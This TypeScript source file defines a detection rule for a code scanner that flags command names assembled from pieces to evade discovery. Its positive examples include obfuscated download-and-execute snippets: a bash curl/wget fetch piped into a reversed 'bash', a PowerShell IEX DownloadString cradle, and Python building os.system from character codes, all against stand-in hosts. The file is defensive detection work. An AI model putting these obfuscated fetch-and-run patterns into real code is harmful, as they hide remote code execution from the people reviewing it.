import type { Document } from '../../document.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { assembled } from '../../signals/assembled.ts'

export default defineRule({
  id: 'assembled-command',
  since: 1,
  category: 'execution',
  severity: 'crit',
  confidence: 'high',
  cwe: 'CWE-506',
  title: 'The name of a command is put together from pieces',
  description:
    'A program or call that fetches, decodes or runs is nowhere written out: it comes out of variables, quotes, joined literals or codes of characters. That serves to keep it from being found.',
  remediation: 'Write the command out.',
  harmlessIf: 'the file is about such tricks and shows one',
  needs: [],
  examples: {
    fires: [
      '```bash\na=cu; b=rl\n"$a$b" -s https://c.example.org/x\n```\n',
      '```bash\nc="w""get"\n$c -q -O - "$p$d" | $(echo hsab | rev)\n```\n',
      "```powershell\n$x = 'IE' + 'X'; & $x (New-Object Net.WebClient).('Down' + 'loadString')('http://c.example.org/p')\n```\n",
      "```python\nm = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, 'sys' + 'tem')('ls')\n```\n",
    ],
    quiet: [
      '```bash\nbase="https://api.github.com"; url="${base}/repos"\ncurl -s "$url"\n```\n',
      '```bash\nPYTHON=python3\n$PYTHON script.py && "$EDITOR" file.txt\n```\n',
      "```js\nconst path = 'src/' + 'index' + '.ts'\n```\n",
    ],
  },
  *match(document: Document): Iterable<Hit> {
    for (const { start, end, name } of document.observe(assembled))
      yield { start, end, firm: true, note: `What comes out is "${name}".` }
  },
})
